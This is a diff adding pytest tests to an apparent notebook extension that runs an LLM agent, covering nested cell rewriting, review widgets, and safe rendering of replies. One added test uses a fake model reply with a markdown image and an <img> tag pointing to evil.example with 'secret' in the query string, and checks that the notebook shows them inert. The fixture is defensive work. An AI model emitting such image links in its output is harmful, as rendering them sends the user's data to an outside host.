@@ -231,6 +231,18 @@ def test_mode_never_shows_only_the_record(
     assert "```python\nn = 3" not in markdown.split("Step 1")[0]  # the prose omits the code
 
 
+def test_a_reply_cannot_make_the_notebook_load_anything(
+    shell, notebook: Outputs, openai_env: FakeOpenAIServer
+) -> None:
+    """An image URL or raw HTML in a reply would be fetched on display: shown inert."""
+    leak = "![p](https://evil.example/p.png?d=secret) <img src=https://evil.example/i>"
+    openai_env.enqueue(f"{leak}\nDone. TERMINATE")
+    run_cell(shell, "--mode never", "Say hi.")
+    markdown = notebook.markdown()
+    assert "![" not in markdown and "<img" not in markdown
+    assert "[image: p](https://evil.example/p.png?d=secret)" in markdown
+
+
 def test_streamed_reply_is_shown_while_it_arrives(
     shell, notebook: Outputs, openai_env: FakeOpenAIServer, monkeypatch
 ) -> None:
@@ -357,6 +369,35 @@ def test_rewriter_is_installed_first_and_idle_outside_a_kernel(shell) -> None:
     assert sum(isinstance(t, CellRewriter) for t in transforms) == 1
     # A terminal IPython has no kernel: the magic runs as usual.
     assert shell.transform_cell("%%agent\nx\n").startswith("get_ipython().run_cell_magic")
+
+
+def test_only_the_top_level_cell_is_rewritten(shell) -> None:
+    """A %%agent inside %%time or %%capture is transformed while its outer cell runs."""
+    rewriter = next(t for t in shell.input_transformers_cleanup if isinstance(t, CellRewriter))
+    rewriter.enabled = lambda: True  # as in a kernel that can wait
+    try:
+        assert shell.transform_cell("%%agent\nx\n").startswith("await ")
+        shell.run_cell("nested = get_ipython().transform_cell('%%agent\\nx\\n')")
+        assert shell.user_ns["nested"].startswith("get_ipython().run_cell_magic('agent'")
+        assert rewriter.depth == 0 and shell.transform_cell("%%agent\nx\n").startswith("await ")
+    finally:
+        rewriter.enabled = lambda: False
+
+
+def test_decided_reviews_close_their_widgets(
+    shell, notebook: Outputs, openai_env: FakeOpenAIServer
+) -> None:
+    openai_env.enqueue(code("z = 1"), "TERMINATE")
+    reviews: list[ReviewWidget] = []
+
+    def run(review: ReviewWidget) -> None:
+        reviews.append(review)
+        review.run.click()
+
+    run_cell(shell, "--mode always", "Set z.", run, run)
+    assert len(reviews) == 2
+    for review in reviews:
+        assert review.box.comm is None and all(c.comm is None for c in review.controls)
 
 
 def test_the_code_box_takes_edits_as_ordered_messages() -> None:
